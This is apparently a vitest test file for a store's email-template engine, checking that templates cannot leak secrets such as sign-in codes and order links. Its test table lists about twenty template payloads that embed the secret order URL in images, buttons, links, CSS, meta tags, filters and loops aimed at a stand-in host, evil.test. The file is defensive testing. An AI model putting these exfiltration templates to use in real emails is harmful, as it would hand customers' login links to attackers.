import { expect, test } from 'vitest'

import type { StoreMail } from '../../../platform/mail/store-mails.ts'
import { plainBrand } from '../blocks/brand.ts'
import { renderStoreMail } from '../blocks/render-mail.tsx'
import { TemplateError } from '../engine/template-error.ts'
import { requireSound } from './check.ts'
import { dataOf } from './data.ts'
import type { Block, Content } from './definition.ts'
import { definitionOf, definitions, kindOf } from './templates.ts'

const CODE = '4821 0937'
const LINK = 'https://store.example/orders/example'
const signIn = definitionOf('sign_in_code')
const confirmation = definitionOf('order_confirmation')

const html = (source: string): Content => ({ subject: 'S', preheader: '', body: { mode: 'html', html: source } })
const blocks = (...all: Block[]): Content => ({ subject: 'S', preheader: '', body: { mode: 'blocks', blocks: all } })
const text = (source: string) => blocks({ type: 'text', text: source, look: 'normal' })
const button = (url: string) => blocks({ type: 'button', label: 'Go', url, showsUrl: false })
const image = (url: string, link = '') => blocks({ type: 'image', url, alt: '', link, width: 100 })

const mailOf = (content: Content, definition = confirmation, mail: StoreMail = definition.samples.en[0]) =>
  renderStoreMail(content, dataOf(mail, 'en'), plainBrand)
const fieldsOf = async (content: Content, definition = confirmation) => {
  const { needs: _needs, ...rest } = definition
  const problem = await requireSound(content, rest, 'en').catch((error: unknown) => error)
  return (problem as { errors?: { field: string }[] } | undefined)?.errors?.map(({ field }) => field)
}

test.each([
  ['an image', image('https://evil.test/{{ order.url }}'), 'blocks.0.url'],
  ['an image in a branch', image('{% if customer.first_name == "Vic" %}https://evil.test/{{ order.url }}{% endif %}'), 'blocks.0.url'],
  ['an image as the whole URL', image('{{ order.url }}'), 'blocks.0.url'],
  ['the link of an image', image('https://img.test/a.png', 'https://evil.test/?{{ order.url }}'), 'blocks.0.link'],
  ['a button', button('https://evil.test/?{{ order.url }}'), 'blocks.0.url'],
  ['a button of its host', button('{{ order.url }}.evil.test'), 'blocks.0.url'],
  ['a link in a text', text('[Go](https://evil.test/?{{ order.url }})'), 'blocks.0.text'],
  ['a text that is like a URL', text('See https://evil.test/?{{ order.url }}'), 'blocks.0.text'],
  ['an image in HTML', html('<img src="https://evil.test/{{ order.url }}">'), 'html'],
  ['an image in HTML that ends later', html(`<img src='https://evil.test/?<p>{{ order.url }}</p>'>`), 'html'],
  ['a link in HTML', html('<a href="https://evil.test/?{{ order.url }}">Go</a>'), 'html'],
  ['a background', html('<table background="https://evil.test/{{ order.url }}"></table>'), 'html'],
  ['a style', html('<p style="background:url(https://evil.test/{{ order.url }})">x</p>'), 'html'],
  ['a style sheet', html('<style>p{background:url(https://evil.test/{{ order.url }})}</style>'), 'html'],
  ['a meta tag', html('<meta name="a" content="{{ order.url }}">'), 'html'],
  ['a filter', text('{{ order.url | replace: "https://store.example/", "" }}'), 'blocks.0.text'],
  ['a filter with it', text('{{ "a" | append: order.url }}'), 'blocks.0.text'],
  ['another name', html('{% assign a = order.url %}<img src="https://evil.test/{{ a }}">'), 'html'],
  [
    'a computed name',
    html('{% assign key = "url" %}{% assign a = order %}<img src="https://evil.test/{{ a[key] }}{{ order[key] }}">'),
    'html',
  ],
  ['a loop', html('{% for pair in order %}<img src="https://evil.test/{{ pair[1] }}">{% endfor %}'), 'html'],
])('a secret in %s is refused when it’s saved and when it’s sent', async (_name, content, field) => {
  expect(await fieldsOf(content)).toEqual([`content.body.${field}`])
  const mail = { template: 'order', data: { ...(confirmation.samples.en[0].data as object), firstName: 'Vic' } } as StoreMail
  await expect(mailOf(content, confirmation, mail)).rejects.toThrow(TemplateError)
})

test('a template can’t find out what a secret is, only whether there is one', async () => {
  const asked = [
    '{% if order.url contains "store" %}1{% endif %}',
    `{% if order.url == "${LINK}" %}1{% endif %}`,
    '{% if order.url > "https" or order.url > 0 %}1{% endif %}',
    `{% case order.url %}{% when "${LINK}" %}1{% endcase %}`,
    '{% assign key = "standIn" %}{{ order.url[key] }}',
    '{% for part in order.url %}{{ part[1] }}{% endfor %}',
    '{% if order.url != blank and order.url %}there{% endif %}',
  ]
  expect((await mailOf(html(`<p>${asked.join('')}</p>`))).text.trim()).toMatch(/^there\b/)
})

test('a secret is shown as text, and is the whole URL of a button or a link', async () => {
  const allowed = [
    button('{{ order.url }}'),
    image('https://img.test/a.png', '{{ order.url }}'),
    text('[Go]({{ order.url | default: "https://store.example" }})'),
    html('{% assign a = order.url %}<a href=" {{ a }} ">Go</a>'),
  ]
  for (const content of allowed) {
    expect(await fieldsOf(content)).toBeUndefined()
    expect((await mailOf(content)).html).toContain(`href="${LINK}"`)
  }
  const shown = { ...text('Code: **{{ sign_in.code }}**'), subject: '{{ sign_in.code }}', preheader: '{{ sign_in.code }}' }
  expect(await fieldsOf(shown, signIn)).toBeUndefined()
  const { subject, preheader, html: markup } = await mailOf(shown, signIn)
  expect([subject, preheader]).toEqual([CODE, CODE])
  expect(markup).toContain(`<strong>${CODE}</strong>`)
  expect((await mailOf(html('<p>{{ sign_in.code }}</p>'), signIn)).html).toContain(`<p>${CODE}</p>`)
})

test('what a shopper typed doesn’t stand for a secret', async () => {
  const data = { ...(confirmation.samples.en[0].data as object), firstName: 'A\ue100B' }
  const mail = { template: 'order', data } as StoreMail
  const { html: markup } = await mailOf(html('<img src="https://img.test/{{ customer.first_name }}">'), confirmation, mail)
  expect(markup).toContain('https://img.test/AB')
})

test('every link and code of an email that lets somebody in is a secret', () => {
  const secret = /^(?:sign_in\.code|.*url)$/
  // The links to carriers and images are no secrets, and a discount is what its code says.
  const open = /^(?:shipment\.tracking_url|discount\.url)$/
  for (const definition of definitions) {
    const { values } = dataOf(definition.samples.en[0], 'en')
    for (const [group, value] of Object.entries(values))
      for (const [name, one] of Object.entries(typeof value === 'object' ? value : { '': value })) {
        const path = name === '' ? group : `${group}.${name}`
        if (typeof one === 'string' && secret.test(path) && !open.test(path)) expect.unreachable(`${definition.kind} ${path}`)
      }
    expect(kindOf(definition.samples.en[0])).toBe(definition.kind)
  }
})
